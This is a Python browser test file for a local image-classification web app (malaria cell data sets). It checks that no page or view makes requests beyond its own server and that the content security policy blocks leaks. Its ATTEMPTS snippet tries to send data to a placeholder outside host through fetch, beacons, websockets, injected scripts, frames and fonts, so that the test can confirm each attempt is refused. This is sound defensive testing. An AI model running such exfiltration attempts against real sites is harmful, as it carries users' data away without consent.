"""Nothing leaves this machine: a journey over every page and view, with all that the browser asks for written down.

A content security policy that breaks a page shows here too: in what the browser reports, and in what is not drawn.
"""

import io
import urllib.request

import pytest
from PIL import Image
from playwright import sync_api

from core.base import paths
from core.datasets.index import index
from core.datasets.intake import catalogue
from core.datasets.sample import drawn
from core.jobs import overview
from pages.compare import compare_views
from pages.evaluate import evaluate_views
from pages.explore import explore_views
from pages.kit import gate
from pages.train import chosen_run
from tests.browser import serving
from tests.browser.windows import (
    AT_REST,
    AT_REST_AFTER,
    AWAY,
    BUTTONS,
    LINKS,
    LOOK,
    MINUTE,
    WATCH,
    choose,
    expect_address,
    faults_of,
    press,
    press_switch,
    wait_for,
    wait_until_settled,
)
from tests.support import finished_run

pytestmark = [pytest.mark.browser, pytest.mark.timeout(1800)]

MODEL, PAIR = "sample-cells-base-cnn", "dataset=malaria-cells&a=malaria-base-cnn&b=malaria-smear-cnn"
# What a page may lead to when a person clicks it: the source of a public data set, named beside it.
KNOWN_PAGES = {entry.source_page for entry in catalogue.ENTRIES}
COLLECT = """
window.refusedByPolicy = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.refusedByPolicy.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
SHARES = ("Validation share", "Test share")  # of a split, as cells of the table of settings
TOOLBARS = "() => document.querySelectorAll('.modebar-btn').length"
ATTEMPTS = """async () => {
  const away = "https://elsewhere.invalid/";
  await fetch(away, { method: "POST", mode: "no-cors", body: "cells" }).catch(() => null);
  navigator.sendBeacon(away, "cells");
  try { new WebSocket("wss://elsewhere.invalid/"); } catch { }
  new Image().src = `${away}cells.png`;
  for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["object", "data"]]) {
    const made = document.createElement(tag);
    made[name] = away;
    document.body.append(made);
  }
  const font = new FontFace("Elsewhere", `url(${away}font.woff2)`);
  await font.load().catch(() => null);
  setTimeout("window.refusedByPolicy.push('text-was-run')");
  await new Promise((done) => setTimeout(done, 500));
  return [...new Set(window.refusedByPolicy.map((said) => said.split(" ")[0]))].sort();
}"""
REFUSED = ["connect-src", "font-src", "frame-src", "img-src", "object-src", "script-src", "script-src-elem"]


@pytest.fixture
def trained(home, tiny_dataset):
    """The sample data set, which the shipped model knows, and a finished training of a tiny one: its id."""
    drawn.draw_dataset(overview.SAMPLE_NAME, images=overview.SAMPLE_IMAGES, seed=overview.SAMPLE_SEED)
    index.build_index(overview.SAMPLE_NAME)
    return finished_run.write_finished_run().id


def list_pages(run_id):
    """The address of each page in its first view, and the views that are gone to from there: key in it, and title."""
    return [
        ("", {}),
        ("datasets?dataset=sample-cells&part=found", {"part=split": "Split", "part=doctor": "Data doctor"}),
        ("explore?dataset=sample-cells&view=images", list_others(explore_views.VIEWS)),
        (f"train?run={run_id}&{chosen_run.VIEW}=run&overlay={run_id}", list_others(chosen_run.VIEWS, chosen_run.VIEW)),
        (f"evaluate?model={MODEL}&view=result", list_others(evaluate_views.VIEWS)),
        (f"compare?{PAIR}&view=table", list_others(compare_views.VIEWS)),
        (f"predict?model={MODEL}", {}),
    ]


def list_others(views, key="view"):
    """All but the first, with which the page is opened."""
    titles = {name: said if isinstance(said, str) else said[0] for name, said in views.items()}
    return {f"{key}={name}": title for name, title in list(titles.items())[1:]}


def open_recorded(chromium, served):
    """A page in a context of its own, with every request and websocket of that context in `page.asked`."""
    context = chromium.new_context(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
    context.add_init_script(COLLECT)
    context.add_init_script(WATCH)
    asked = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("page", lambda page: page.on("websocket", lambda socket: asked.append(socket.url)))
    page = context.new_page()
    page.asked, page.faults = asked, []
    page.on("pageerror", lambda error: page.faults.append(str(error)))
    page.on("console", lambda said: page.faults.append(said.text) if said.type == "error" else None)
    return page


def settle(page):
    """Wait until the page stands: its heading, nothing running, what is drawn later drawn."""
    page.get_by_role("heading").first.wait_for(timeout=MINUTE)
    wait_until_settled(page)
    page.wait_for_function(AT_REST, arg=AT_REST_AFTER, polling=LOOK, timeout=MINUTE)
    assert page.get_by_test_id("stException").count() == 0, page.url


def require_at_home(page, served):
    """What was asked for came from this server; nothing on the page leads or carries anything elsewhere."""
    own = (f"{served.address}/", served.address.replace("http", "ws") + "/", "data:", "blob:")
    assert [url for url in page.asked if not url.startswith(own)] == []
    assert page.evaluate("() => window.refusedByPolicy") == [], page.url
    assert [said for said in page.faults if "Content Security Policy" in said] == []
    assert faults_of(page) == [], page.url
    leading = [said for said in page.evaluate(BUTTONS) if AWAY.search(said) and said not in SHARES]
    assert leading == [], page.url
    links = {link for link in page.evaluate(LINKS) if not link.startswith(served.address)}
    assert links <= KNOWN_PAGES, page.url


def test_a_journey_over_every_page_asks_this_machine_alone(chromium, trained):
    """A page is loaded once, and its views are gone to by hand: a load costs more than all else that is looked at."""
    toolbars = {}
    meanwhile = {"view=images": open_one_image, "part=found": open_public_sets, "view=map": see_the_map}
    meanwhile |= {"view=table": take_the_table, f"{chosen_run.VIEW}=run": take_the_figure}
    with serving.app(paths.home_folder()) as served:
        page = open_recorded(chromium, served)
        for address, others in list_pages(trained):
            page.goto(f"{served.address}/{address}")
            for place in (address, *others):
                if place in others:
                    choose(page, others[place])
                    expect_address(page, place)
                settle(page)
                require_at_home(page, served)
                toolbars[place] = page.evaluate(TOOLBARS)
                for at, act in meanwhile.items():
                    if at in place.replace("?", "&").split("&"):
                        act(page, served)
        assert any(url.startswith("ws://") for url in page.asked)  # the recorder hears websockets
        ask_with_an_upload(page, served)
        assert page.get_by_test_id("stMainMenu").count() == 0
        assert page.evaluate(ATTEMPTS) == REFUSED
        page.context.close()
    assert sum(count > 0 for count in toolbars.values()) >= 10, toolbars
    assert "Traceback" not in served.log.read_text()


def see_the_map(page, served):
    """Points drawn with WebGL, for which plotly.js usually writes code as it goes."""
    page.locator(".picture-map-figure .nsewdrag").first.wait_for(timeout=MINUTE)
    sync_api.expect(page.locator(".picture-map-figure .gl-canvas-context")).to_have_count(1, timeout=MINUTE)
    page.wait_for_timeout(500)
    assert page.get_by_text("WebGL is not supported").count() == 0


def open_one_image(page, served):
    """A picture in full, which is a figure that one can go into."""
    image = index.read_index(overview.SAMPLE_NAME).usable["image_id"].iloc[0]
    page.goto(f"{served.address}/explore?dataset=sample-cells&view=images&image={image}")
    settle(page)
    page.locator(".js-plotly-plot").first.wait_for(timeout=MINUTE)
    require_at_home(page, served)
    press(page, "Back to the grid", lambda: "image=" not in page.url)


def open_public_sets(page, served):
    """The only links that lead away name where a public data set comes from, and are no requests."""
    choose(page, "Public")
    settle(page)
    require_at_home(page, served)


def ask_with_an_upload(page, served):
    """An image from the person's disk goes to this server, and the answer comes with its heatmap."""
    saved = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 120, 140)).save(saved, "PNG")
    choose(page, "My own image")
    page.locator("input[type=file]").set_input_files(
        {"name": "own.png", "mimeType": "image/png", "buffer": saved.getvalue()}
    )
    page.get_by_text("Not an image that this model knows").first.wait_for(timeout=MINUTE)
    wait_until_settled(page)
    answered = page.locator("p.result", has_text="The model answers").first
    press_switch(page, "Answer anyway", answered.is_visible)
    page.get_by_text("strength:").first.wait_for(timeout=MINUTE)
    settle(page)
    require_at_home(page, served)


def take_the_table(page, served):
    """A download works under the rules, from the page of the models."""
    with page.expect_download(timeout=MINUTE) as taken:
        page.get_by_role("button", name="CSV", exact=True).first.click(delay=120)
    assert taken.value.path().stat().st_size > 100


def take_the_figure(page, served):
    """The same from a figure's own toolbar."""
    chart = page.locator(".live-chart").first
    chart.locator(".main-svg").first.wait_for(timeout=MINUTE)
    with page.expect_download(timeout=MINUTE) as taken:
        chart.locator(".modebar-btn[data-title*='ownload']").first.click(force=True)
    assert taken.value.path().read_bytes().startswith(b"\x89PNG")
    require_at_home(page, served)


def test_the_server_is_started_with_the_gate_and_no_other_page_can_hold_ours_in_a_frame(chromium, served, tmp_path):
    """`streamlit run app.py`, as `make run` and README say it."""
    with urllib.request.urlopen(served.address, timeout=10) as answer:
        said = answer.headers["content-security-policy"]
    assert said == gate.write_policy(served.address.removeprefix("http://"))

    holder = tmp_path / "holder.html"
    holder.write_text(f'<iframe src="{served.address}/" width=800 height=600></iframe>')
    page = chromium.new_page()
    page.goto(holder.as_uri())
    wait_for(lambda: len(page.frames) == 2 and page.frames[1].url not in ("", "about:blank"), page, seconds=60)
    assert page.frames[1].url.startswith("chrome-error:")
    page.close()
